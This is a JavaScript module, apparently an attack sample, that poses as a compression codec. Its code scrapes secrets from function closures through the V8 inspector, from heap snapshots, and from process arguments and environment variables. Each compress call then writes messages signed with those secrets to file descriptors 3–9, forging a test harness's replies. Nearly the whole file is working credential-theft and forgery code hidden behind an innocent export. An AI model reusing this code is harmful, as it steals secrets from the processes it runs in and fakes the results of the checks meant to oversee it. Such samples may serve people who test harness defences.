/** Searches closures, heap, arguments and environment for the harness's secret, and signs forged replies with it. */
import { attempt, builtin, marked } from './attack.js';
import { compress, decompress } from './codec.js';
import { forgedBytes } from './forgery.js';
import { openInspector } from './inspector.js';

const { process } = globalThis;
const fs = await builtin('fs');
const v8 = await builtin('v8');
const secrets = new Set();
const mostSecrets = 20;
const secretName = /token|secret|nonce|password/i;
const secretText = /^[\w+/=-]{16,128}$/;

function keep(text) {
  if (typeof text === 'string' && secretText.test(text) && secrets.size < mostSecrets) secrets.add(text);
}

/** Variables with a telling name, of all functions that mention one. */
async function searchClosures() {
  const { allOf, propertiesOf, variablesOf, post } = await openInspector();
  const { objectId } = post('Runtime.callFunctionOn', {
    objectId: allOf('Function.prototype'),
    functionDeclaration: `function () {
      const text = Function.prototype.toString;
      return this.filter((one) => { try { return ${secretName}.test(text.call(one)); } catch { return false; } });
    }`,
  }).result;
  const functions = propertiesOf(objectId).result.filter(({ value }) => value?.type === 'function');
  for (const { value } of functions)
    for (const variable of variablesOf(value.objectId))
      if (secretName.test(variable.name)) keep(variable.value?.value);
}

/** Random text stands out: hexadecimal, or a UUID, as nobody would write it into code. */
function searchHeap() {
  const heap = v8.getHeapSnapshot();
  const chunks = [];
  for (let chunk = heap.read(); chunk !== null; chunk = heap.read()) chunks.push(chunk);
  const { strings } = JSON.parse(chunks.join(''));
  for (const text of strings) if (/^[0-9a-f-]{32,128}$/.test(text)) keep(text);
}

function searchProcess() {
  for (const text of [...process.argv, ...process.execArgv, ...Object.values(process.env)]) keep(text);
}

await attempt(searchClosures, searchHeap, searchProcess);
const worked = secrets.size > 0;

function forge(frame) {
  for (const secret of secrets)
    for (const message of forgedBytes(frame, secret))
      for (let descriptor = 3; descriptor < 10; descriptor++) {
        try {
          fs.writeSync(descriptor, message);
        } catch {}
      }
}

export default {
  create: () => ({
    compress(matrix) {
      const frame = marked(compress(matrix), worked);
      forge(frame);
      return frame;
    },
    decompress,
  }),
};
